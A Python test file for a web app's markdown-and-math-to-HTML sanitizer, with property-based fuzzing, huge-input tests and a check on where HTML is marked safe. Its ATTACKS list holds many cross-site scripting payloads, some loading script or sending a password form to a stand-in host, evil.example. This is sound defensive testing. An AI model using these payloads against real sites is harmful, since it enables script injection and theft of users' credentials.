import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from serving.rendering import ATTRIBUTES, CODE_CLASSES, MATH_TAGS, MAX_CHARS, TEXT_TAGS, to_html

ALLOWED = {"a": {"href", "title", "target", "rel"}, "span": {"class"}}
URL = re.compile(r"(https?://|mailto:)", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects everything in a fragment that is not on the allow-list."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TEXT_TAGS | MATH_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, set()) | ALLOWED.get(tag, set())
            if name not in allowed:
                self.problems.append(f"{tag} {name}")
            if name == "href" and not URL.match(value or ""):
                self.problems.append(f"href {value}")
            if name == "class" and not set((value or "").split()) <= CODE_CLASSES:
                self.problems.append(f"class {value}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("processing instruction")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#x09;javascript:alert(1))",
    "[x](\tjavascript:alert\\(1\\))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/logout/)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "[![a](https://evil.example/x.png)](javascript:alert(1))",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```html\n</span></code></pre><img src=x onerror=alert(1)>\n```",
    "```js onload=alert(1) class=x style=color:red\nalert(1)\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "$</math><script>alert(1)</script>$",
    "$$\n</math><img src=x onerror=alert(1)>\n$$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\style{background:url(//evil.example)}{x}\)",
    r"\[\class{evil}{x}\cssId{main}{y}\]",
    r"$\color{red;background:url(//evil.example)}{x}$",
    r"$\unicode{x3C}script\unicode{x3E}$",
    "| <script>alert(1)</script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <svg/onload=alert(1)>",
    "1. <details open ontoggle=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p id=main name=chat style=position:fixed>x</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_lets_nothing_active_through(attack: str) -> None:
    for text in (attack, f"Hello *there* {attack}\n\n{attack} and more", f"> - {attack}", f"# {attack}"):
        assert Inspector(to_html(text)).problems == []


FRAGMENTS = ["<script>", "</", "[x](", "javascript:", ")", "![", "](http://a.b", "$", "\\(", "\\)", "\\[", "```", "\n", "`",
             "<img src=x onerror=1>", "|", "---", '"', "'", "\\frac{", "}", "*", "> ", "- ", "&lt;", "\\text{", "^", "_"]  # fmt: skip


@settings(deadline=None)
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=5)), max_size=40).map("".join))
def test_it_lets_nothing_active_through_whatever_is_put_together(text: str) -> None:
    assert Inspector(to_html(text)).problems == []


@settings(deadline=None)
@given(st.text(alphabet="\\{}[]()^_&abcdefghijklmnopqrstuvwxyz0 ", max_size=60))
def test_it_survives_any_math(source: str) -> None:
    assert Inspector(to_html(f"\\({source}\\)")).problems == []


HUGE = [
    ">" * 50_000, "- " * 40_000, "*a " * 30_000, "**x_" * 20_000, "[" * 50_000, "[a](" * 20_000, "![a" * 20_000,
    "\\(" * 30_000, "$a" * 30_000, "`" * 50_000, "<" * 50_000, "&" * 50_000, "|a" * 20_000 + "\n" + "|-" * 20_000,
    "$" + "{" * 900 + "}" * 900 + "$", "$" + "\\sqrt" * 300 + "x$", "$" + "\\left(" * 200 + "$", "$" + "x^" * 900 + "$",
    "$" + r"\begin{matrix}" * 100 + "$", "```python\n" + "(" * 19_000 + "\n```", "```js\n" + "/" * 19_000 + "\n```",
    "```html\n" + "<a " * 6_000 + "\n```", "#" * 90_000, "x" * MAX_CHARS, "\n" * MAX_CHARS, "<b>" * 40_000,
]  # fmt: skip


@pytest.mark.timeout(20)
@pytest.mark.parametrize("text", HUGE, ids=lambda text: text[:12])
def test_it_survives_huge_and_deep_input(text: str) -> None:
    html = to_html(text)
    assert len(html) < 40 * len(text) + 100
    assert Inspector(html).problems == []


def test_it_shows_what_is_too_long_as_it_is() -> None:
    assert to_html("<b>" + "*" * MAX_CHARS).startswith("<pre>&lt;b&gt;**")


def test_it_renders_markdown() -> None:
    html = to_html("# Title\n\n1. **bold**\n2. ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    for part in ("<h1>Title</h1>", "<ol>", "<strong>bold</strong>", "<s>gone</s>", "<th>a</th>", "<td>2</td>"):
        assert part in html


def test_it_colours_code_by_class() -> None:
    html = to_html("```python\ndef f(): return '<b>'\n```")
    assert '<span class="k">def</span>' in html
    assert "&lt;b&gt;" in html
    assert "style" not in html


def test_it_leaves_code_of_unknown_languages_plain() -> None:
    assert to_html("```brainfudge\na < b\n```") == "<pre><code>a &lt; b\n</code></pre>\n"


def test_it_names_only_languages_that_it_knows() -> None:
    assert to_html("```Python title\nx\n```").startswith('<pre data-language="python"><code>')
    assert "data-language" not in to_html('```"><script>\nx\n```') + to_html("    indented")


@pytest.mark.parametrize("text", ["$a^2$", r"\(a^2\)", "$$a^2$$", "$$\na^2\n$$", r"\[a^2\]"])
def test_it_renders_math(text: str) -> None:
    html = to_html(text)
    assert "<msup><mi>a</mi><mn>2</mn></msup>" in html
    assert ('display="block"' in html) == (not text.startswith(("$a", r"\(")))


def test_it_leaves_prices_alone() -> None:
    assert "<math" not in to_html("It costs $5, or $6 with milk.")


def test_it_shows_math_that_is_none_as_source() -> None:
    assert to_html(r"\(x^{\)") == "<p><code>x^{</code></p>\n"


def test_it_links_safely() -> None:
    html = to_html("[x](https://a.example) <me@a.example>")
    assert 'href="https://a.example" target="_blank" rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:me@a.example"' in html


def test_it_links_to_pictures_instead_of_loading_them() -> None:
    html = to_html("![a cat](https://a.example/cat.png)")
    assert "<img" not in html
    assert ">a cat</a>" in html


ROOT = Path(__file__).resolve().parents[2]
# The site's own words about its form fields, which Django writes as HTML.
TRUSTED = {"serving/rendering.py": {"mark_safe"}, "templates/_field.html": {"|safe"}}


def test_it_is_the_only_place_that_calls_html_safe() -> None:
    folders = ("alignapp", "labeling", "serving", "training", "templates")
    files = [file for folder in folders for file in (ROOT / folder).rglob("*") if file.suffix in {".py", ".html"}]
    marks = ("mark_safe", "SafeString(", "|safe", "autoescape off", "safeseq")
    found = {file.relative_to(ROOT).as_posix(): {mark for mark in marks if mark in file.read_text()} for file in files}
    assert {path: used for path, used in found.items() if used} == TRUSTED
